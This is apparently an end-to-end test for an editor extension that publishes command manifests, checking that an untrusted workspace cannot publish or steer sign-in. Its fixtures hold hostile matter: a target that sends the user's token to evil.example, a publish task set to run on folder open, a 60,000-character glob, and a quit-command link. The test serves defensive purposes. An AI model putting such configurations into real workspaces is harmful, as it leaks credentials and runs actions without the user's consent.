import { expect } from "vitest";
import { command, inEditor } from "./session.ts";

const project = "command-manifest.config.json";
const elsewhere = "http://127.0.0.1:9/api/v10";

const guild = "6830000000000000001";
const targets = {
  evil: { service: "https://evil.example/api/v10", global: true },
  team: { service: "local", guild_id: guild },
};
const trustworthy = JSON.stringify({ targets });

/** A workspace from another author, who wants tokens sent and the editor busy. */
const files = {
  [project]: `{\n  "manifests": ["${"?".repeat(60_000)}", "+(a+(b)).json", "../../**/*.json", "**/*.commands.json"],\n  "targets": { "evil": { "service": "https://evil.example/api/v10", "global": true } }\n}\n`,
  "a.commands.json": `[{ "name": "Ping", "description": "[x](command:workbench.action.quit)" }]\n`,
  ".vscode/settings.json": JSON.stringify({ "commandManifest.service": elsewhere }),
  ".vscode/tasks.json": JSON.stringify({
    version: "2.0.0",
    tasks: [
      {
        type: "command-manifest",
        command: "publish",
        target: "evil",
        label: "evil",
        runOptions: { runOn: "folderOpen" },
      },
    ],
  }),
};

inEditor("an untrusted workspace in", { files, restricted: true }, (session, test) => {
  test("is checked, and publishes nothing until it is trusted", async ({ workbench, service }) => {
    await workbench.openFile("a.commands.json");
    await workbench.squiggle("error");
    await workbench.problems("name-lowercase");
    expect(await workbench.page.locator(".codelens-decoration", { hasText: "Publish" }).count()).toBe(0);
    await workbench.page.locator(".statusbar-item", { hasText: "Restricted Mode" }).waitFor();
    await workbench.quickOpen(">Command Manifest: Publish");
    const rows = workbench.page.locator(".quick-input-widget:visible .monaco-list-row");
    await rows.first().waitFor();
    expect((await rows.allInnerTexts()).filter((row) => row.includes("Command Manifest: Publish"))).toEqual([]);
    await workbench.page.keyboard.press("Escape");

    await workbench.openFile(project);
    expect(await workbench.problems("This glob pattern has 60000 characters")).toHaveLength(1);
    await workbench.noProblem("An internal error");

    await workbench.command("Sign In…");
    // The endpoint in the workspace's settings is not offered.
    await workbench.quickInput("Sign In (1/3): Endpoint");
    const offered = workbench.page.locator(".quick-input-widget:visible .monaco-list-row");
    await offered.filter({ hasText: "Other Endpoint URL…" }).waitFor();
    expect(await offered.count()).toBe(2);
    await workbench.page.keyboard.press("Escape");
    session.place(project, trustworthy);
    session.place("a.commands.json", `[${command("ping", "P")}]\n`);
    await workbench.openFile("a.commands.json");
    await workbench.run("Workspaces: Manage Workspace Trust");
    await workbench.page.locator(".workspace-trust-editor").getByRole("button", { name: "Trust", exact: true }).click();
    await workbench.page.locator(".statusbar-item", { hasText: "Restricted Mode" }).waitFor({ state: "hidden" });
    await workbench.openFile("a.commands.json");
    await workbench.lens("Publish");
    await session.publishTo("evil");
    await workbench.message("sends target “evil” to https://evil.example/api/v10, and your token with it");
    await workbench.clearMessages();
    await session.publishTo("team");
    await workbench.answerMessage(/Publish \d+ changes? to “team”/, "Publish");
    await workbench.message("Published to “team”: 1 created.");
    expect(await service.published(guild)).toEqual(["ping"]);
  });
});
